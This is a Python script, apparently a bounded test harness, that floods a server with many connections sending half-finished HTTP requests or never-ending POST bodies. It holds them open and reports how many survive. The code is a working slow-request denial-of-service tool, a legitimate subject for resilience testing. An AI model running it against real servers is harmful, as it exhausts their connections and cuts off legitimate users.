"""Many connections with half a request, held for a while; bounded in number and time.

    flood.py HOST PORT CONNECTIONS SECONDS [--upload BYTES] SOURCE ...

Prints how many were open at the end of the opening, as JSON, and holds them until the time is over. With `--upload`,
each sends a whole header and this much of a body that never ends.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import multiprocessing
import resource
import select
import socket
import time
from collections.abc import Callable

#: What the time limit leaves to the opening itself.
OPENING_SECONDS = 15.0
MOST_SECONDS = 60.0
PROCESSES = 2
#: A server that drops what it cannot take must not stop the flood.
CONNECT_SECONDS = 0.2
#: As long as nothing more is taken from anyone.
PATIENCE_SECONDS = 0.5
HALF = b"GET / HTTP/1.1\r\nHost: shop.exam"


def opened(host: str, port: int, number: int, sources: list[str], head: bytes) -> list[socket.socket]:
    """The connections, one after the other. Each sends its part as soon as it is let in: to make room nginx closes
    those that have said nothing yet, and takes only these for idle."""
    deadline = time.monotonic() + OPENING_SECONDS
    started: list[socket.socket] = []
    while len(started) < number and time.monotonic() < deadline:
        started.append(begun(host, port, sources[len(started) % len(sources)], head))
    return started


def begun(host: str, port: int, source: str, head: bytes) -> socket.socket:
    connection = socket.socket()
    connection.settimeout(CONNECT_SECONDS)
    with contextlib.suppress(OSError):
        connection.bind((source, 0))
        connection.connect((host, port))
        connection.send(head)
    connection.setblocking(False)
    return connection


def alive(connections: list[socket.socket], milliseconds: int = 1000) -> list[socket.socket]:
    """Those that were accepted and are still open."""
    found = []
    poll = select.poll()
    known = {connection.fileno(): connection for connection in connections}
    for number in known:
        poll.register(number, select.POLLOUT)
    # Watched for so long: a connection counts only if it is open at the end, and nothing says that none will be closed.
    time.sleep(milliseconds / 1000)
    for number, event in poll.poll(0):
        if event & select.POLLOUT and not event & (select.POLLERR | select.POLLHUP):
            found.append(known[number])
    return found


def work(options: argparse.Namespace, number: int, tell: Callable[[tuple[int, int]], None]) -> None:
    """One process's share: a process may not have that many files open."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    head = HALF
    if options.upload:
        head = b"POST / HTTP/1.1\r\nHost: shop.example\r\nContent-Length: %d\r\n\r\n" % (options.upload + 1)
    started = opened(options.host, options.port, number, options.sources, head)
    # In place of those that were closed meanwhile.
    started += opened(options.host, options.port, number - len(alive(started)), options.sources, head)
    left = {connection: memoryview(bytes(options.upload)) for connection in alive(started)}
    # Whoever was let in sends; whoever was turned away is closed by the other side meanwhile.
    end = time.monotonic() + OPENING_SECONDS
    patience = time.monotonic() + PATIENCE_SECONDS
    while any(left.values()) and time.monotonic() < min(patience, end):
        for connection, data in left.items():
            if data:
                with contextlib.suppress(OSError):
                    left[connection] = data[connection.send(data[:65536]) :]
                    patience = time.monotonic() + PATIENCE_SECONDS
        # A pause between two rounds, so that this process leaves the processor to those it floods.
        time.sleep(0.001)
    tell((len(started), len(alive(started))))
    # The flood itself: it lasts as long as it was asked to, and never longer than this bound.
    time.sleep(min(options.seconds, MOST_SECONDS))


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("connections", type=int)
    parser.add_argument("seconds", type=float)
    parser.add_argument("sources", nargs="+")
    parser.add_argument("--upload", type=int, default=0)
    options = parser.parse_args()
    shares = [
        len(part) for part in (range(start, options.connections, PROCESSES) for start in range(PROCESSES)) if part
    ]
    told: multiprocessing.SimpleQueue[tuple[int, int]] = multiprocessing.SimpleQueue()
    workers = [multiprocessing.Process(target=work, args=(options, share, told.put)) for share in shares]
    for worker in workers:
        worker.start()
    counts = [told.get() for _ in workers]
    print(json.dumps({"started": sum(it[0] for it in counts), "open": sum(it[1] for it in counts)}), flush=True)
    for worker in workers:
        worker.join()


if __name__ == "__main__":
    main()
